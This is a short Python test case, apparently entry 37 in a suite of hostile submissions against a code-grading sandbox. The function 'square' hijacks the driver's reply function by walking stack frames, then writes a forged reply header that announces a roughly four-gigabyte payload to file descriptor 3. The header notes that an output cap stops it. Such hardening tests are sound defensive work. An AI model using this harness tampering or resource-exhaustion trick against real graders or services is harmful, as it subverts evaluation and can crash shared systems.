# attack: 37
# name: an answer that announces four gigabytes
# stopped by: printed text and results are counted, and capped before they are kept
# without: output limit
# then: RTE
import os
import struct
import sys


def take_over(reply):
    """Put this function where the driver sends its answers."""
    frame = sys._getframe()
    while frame.f_code.co_name != "main":
        frame = frame.f_back
    frame.f_globals["reply"] = reply


def answer(kind, payload):
    return struct.pack(">cII", kind, len(payload), 0) + payload


def square(n):
    take_over(lambda *_: (os.write(3, struct.pack(">cII", b"R", 5 << 20, 0)), os._exit(0)))
    return n
